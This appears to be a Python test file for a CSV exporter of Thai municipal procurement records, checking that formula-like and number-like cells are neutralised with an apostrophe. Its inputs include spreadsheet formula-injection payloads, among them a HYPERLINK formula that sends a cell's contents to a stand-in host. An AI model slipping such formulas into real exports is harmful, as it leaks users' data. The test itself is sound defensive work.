"""The CSV of a month: what a spreadsheet shows of it is what the office wrote."""

import csv
import io
import json
import re
from dataclasses import replace
from datetime import date

import pytest
from hypothesis import given
from hypothesis import strategies as st

from pipeline.formats.csv import inert, render
from schemas.month import Month
from schemas.procurement import Bid, Procurement, Source
from schemas.summary import MonthlySummary

NAME = "sokhoro1-2567-10.csv"
SOURCE = Source("ตุลาคม.xlsx", "สขร.๑", 7)
HEADER = (
    "ชื่อหน่วยงาน,ปี,เดือน,งานจัดซื้อหรือจัดจ้าง,วงเงินที่จะซื้อหรือจ้าง,ราคากลาง,วิธีซื้อหรือจ้าง,"
    "รายชื่อผู้เสนอราคา,ราคาที่เสนอ,ผู้ได้รับการคัดเลือก,ราคาที่ตกลงซื้อหรือจ้าง,เหตุผลที่คัดเลือกโดยสรุป,"
    "เลขที่และวันที่ของสัญญาหรือข้อตกลงในการซื้อหรือจ้าง,รหัสงบประมาณ,รหัสแหล่งเงิน,เลขที่โครงการ,เลขคุมสัญญา"
)
ANY_TEXT = st.text(st.characters(exclude_categories=["Cs"]))


def summary(*rows: Procurement, nil: bool = False) -> MonthlySummary:
    return MonthlySummary(
        month=Month(2567, 10),
        organisation="เทศบาลเมืองตัวอย่าง",
        place="จังหวัดตัวอย่าง",
        revision=1,
        published_on=date(2024, 11, 5),
        rows=rows,
        nil=nil,
    )


def fields(row: Procurement) -> list[str]:
    """The fields of one row, as a program reads them."""
    text = render(summary(row))[NAME].decode("utf-8-sig")
    _, line = csv.reader(io.StringIO(text, newline=""))
    return line


def test_a_month_is_one_line_a_row_under_the_seventeen_headings() -> None:
    full = Procurement(
        source=SOURCE,
        number=1,
        title='ซื้อ "วัสดุ", ๑๒ รายการ',
        budget=751_982_194,
        reference_price=750_000_000,
        procurement_method="ประกวดราคาอิเล็กทรอนิกส์ (e-bidding)",
        bids=(Bid("ร้าน ก", 740_000_000), Bid("ร้าน ข", None), Bid(None, 100), Bid("ง", 5)),
        supplier="ร้าน ก",
        agreed_price=740_000_000,
        selection_reason="ราคาต่ำสุด",
        contract_number="15/2568",
        contract_date=date(2024, 10, 1),
        egp_project_number="67099354005",
        egp_contract_number="680801004122",
    )

    content = render(summary(full, Procurement(source=SOURCE)))[NAME]

    assert (
        content
        == b"\xef\xbb\xbf"
        + (
            f"{HEADER}\r\n"
            'เทศบาลเมืองตัวอย่าง,2567,ตุลาคม,"ซื้อ ""วัสดุ"", ๑๒ รายการ",7519821.94,7500000.00,'
            'ประกวดราคาอิเล็กทรอนิกส์ (e-bidding),"ร้าน ก\nร้าน ข\n\nง","7400000.00\n\n1.00\n0.05",'
            'ร้าน ก,7400000.00,ราคาต่ำสุด,"15/2568\n2024-10-01",,,67099354005,\'680801004122\r\n'
            "เทศบาลเมืองตัวอย่าง,2567,ตุลาคม,,,,,,,,,,,,,,\r\n"
        ).encode()
    )


def test_the_year_is_that_of_the_month_and_not_the_fiscal_year() -> None:
    """October 2567 lies in fiscal year 2568."""
    assert fields(Procurement(source=SOURCE))[:3] == ["เทศบาลเมืองตัวอย่าง", "2567", "ตุลาคม"]


@pytest.mark.parametrize(
    ("number", "day", "cell"),
    [
        ("15/2568", date(2024, 10, 1), "15/2568\n2024-10-01"),
        ("15/2568", None, "'15/2568"),
        (None, date(2024, 10, 1), "'\n2024-10-01"),
        ("=15\n/2568", date(2024, 10, 1), "'=15 /2568\n2024-10-01"),
        (None, None, ""),
    ],
)
def test_the_first_line_of_the_contract_is_its_number_and_the_second_its_day(
    number: str | None, day: date | None, cell: str
) -> None:
    row = Procurement(source=SOURCE, contract_number=number, contract_date=day)

    assert fields(row)[12] == cell


def test_a_name_of_two_lines_does_not_shift_the_prices_of_the_others() -> None:
    row = Procurement(source=SOURCE, bids=(Bid("บริษัท\nตัวอย่าง", None), Bid("ร้าน ข", 100)))

    assert fields(row)[7:9] == ["บริษัท ตัวอย่าง\nร้าน ข", "\n1.00"]


def test_a_month_without_procurement_is_the_header_and_its_description_says_why() -> None:
    files = render(summary(nil=True))

    assert files[NAME].decode("utf-8-sig") == f"{HEADER}\r\n"
    assert "ไม่มีการจัดซื้อจัดจ้าง ไฟล์จึงมีเฉพาะบรรทัดหัวตาราง" in files[f"{NAME}-metadata.json"].decode()


def test_every_column_is_described_in_thai_in_the_order_of_the_file() -> None:
    files = render(summary())

    assert list(files) == [NAME, f"{NAME}-metadata.json"]
    description = json.loads(files[f"{NAME}-metadata.json"])
    columns = description["tableSchema"]["columns"]
    assert description["url"] == NAME
    assert description["dialect"] == {
        "encoding": "utf-8",
        "lineTerminators": ["\r\n"],
        "header": True,
    }
    assert "ให้ตัดเครื่องหมายนั้นออกหนึ่งตัว" in description["dc:description"]
    assert "ไม่มีการจัดซื้อจัดจ้าง" not in description["dc:description"]
    assert ",".join(column["titles"] for column in columns) == HEADER
    assert [column["datatype"] for column in columns] == [
        *("string", "integer", "string", "string", "decimal", "decimal", "string", "string"),
        *("decimal", "string", "decimal", "string", "string"),
        *("string", "string", "string", "string"),
    ]
    assert [column["name"] for column in columns if column.get("separator") == "\n"] == [
        "bidders",
        "bid_amounts",
    ]
    assert all(re.search("[ก-ฮ]", column["dc:description"]) for column in columns)
    assert len({column["name"] for column in columns}) == 17


@pytest.mark.parametrize(
    "text",
    [
        *("=1+1", "+66 75 411 111", "-นางสาวใจดี  มีสุข", "@SUM(A1)", "\t=1", "\rx", "-"),
        *("\uff1d1+1", "\uff0b1", "\uff0dก", "\uff20x"),  # the wide forms of = + - @
        *("  =1+1", "\u00a0-ก", "\u3000=1", "\n=1", "\ufeff=1", "\u200b=1"),
        '=HYPERLINK("http://example.com?x="&A1,"คลิก")\nร้าน ข',
        *(
            "680801004122",
            "0105536000127",
            "๐๑๐๕๕๓๖๐๐๐๑๒๗",
            "007",
            "0",
            " 0105 ",
            "1234567890123456",
        ),
        *("1/2568", "๑/๒๕๖๘", "8 / 2568", "31/05/2568", "12-2567", "2567-10-01", "1 - 2", "5.10"),
        *("10:30", "1e5", "12E4", "50%", "(5)", "฿100", "1,000", "1 1/2"),
        *("1 ต.ค. 67", "๑ ตุลาคม ๒๕๖๗", "ต.ค.67", "มี.ค. 2568", "1-Oct-24", "Oct 24", "MAY 1"),
        *("'", "'=1+1", "'ก"),
    ],
)
def test_what_a_spreadsheet_would_change_gets_an_apostrophe(text: str) -> None:
    assert inert(text) == f"'{text}"


@pytest.mark.parametrize(
    "text",
    [
        *("จ้างเหมา -1+1", "ร้าน = ข", "ก\n=1+1", "ก\n-ข\n'ค", "<b>วัสดุ</b>", "a@example.com"),
        *("67099354005", "๖๗๐๙๙๓๕๔๐๐๕", "122", "1", "99999999999"),
        *("60/2568 (กช.)", "พด.233/2568", "CNTR-00240/68", "จท.12-2567", "15/2568\nฉบับที่ 2"),
        *("ตุลาคม", "May", "Decco 3 จำกัด", "มีนาคมพาณิชย์ 2", "", " "),
    ],
)
def test_what_stays_as_it_is_gets_none(text: str) -> None:
    assert inert(text) == text


def test_no_column_of_text_is_left_unguarded() -> None:
    text = "=1+1"
    row = Procurement(
        source=SOURCE,
        title=text,
        procurement_method=text,
        bids=(Bid(text, None),),
        supplier=text,
        selection_reason=text,
        contract_number=text,
        egp_project_number=text,
        egp_contract_number=text,
    )
    month = replace(summary(row), organisation=text)

    _, line = csv.reader(io.StringIO(render(month)[NAME].decode("utf-8-sig"), newline=""))

    assert [line[column] for column in (0, 3, 6, 7, 9, 11, 12, 15, 16)] == ["'=1+1"] * 9


@given(ANY_TEXT)
def test_one_apostrophe_taken_off_gives_back_what_was_written(text: str) -> None:
    row = Procurement(
        source=SOURCE,
        title=text,
        procurement_method=text,
        supplier=text,
        selection_reason=text,
        egp_project_number=text,
        egp_contract_number=text,
    )

    line = fields(row)

    assert [line[column].removeprefix("'") for column in (3, 6, 9, 11, 15, 16)] == [text] * 6


@given(ANY_TEXT)
def test_no_cell_begins_as_a_formula_begins(text: str) -> None:
    cell = inert(text)

    assert not re.match(r"[\t\r]|\s*[-=+@\uff0d\uff1d\uff0b\uff20]", cell)


@given(st.text(st.sampled_from("0123456789๐๑๒๙ /-.,:eE"), min_size=1))
def test_no_identifier_is_left_to_be_read_as_a_number_that_looks_otherwise(text: str) -> None:
    """What stays bare is blank, or a number of at most 11 digits, or no number at all."""
    cell = inert(text)

    assert cell == f"'{text}" or re.fullmatch(r"\s*([1-9๑-๙]\d{0,10})?\s*|\s*[/.,:eE].*", cell)


@given(st.lists(st.tuples(st.none() | ANY_TEXT, st.none() | st.integers(0, 10**15)), min_size=1))
def test_bidders_and_their_prices_stay_parallel(bids: list[tuple[str | None, int | None]]) -> None:
    row = Procurement(source=SOURCE, bids=tuple(Bid(name, amount) for name, amount in bids))

    line = fields(row)

    prices = [
        None if price == "" else int(price.replace(".", "")) for price in line[8].split("\n")
    ]
    assert prices == [amount for _, amount in bids]
    assert len(line[7].split("\n")) == len(bids)


def test_a_tax_id_is_never_published() -> None:
    row = Procurement(source=SOURCE, supplier="ร้าน ก", supplier_tax_id="0133540001301")

    assert b"0133540001301" not in render(summary(row))[NAME]
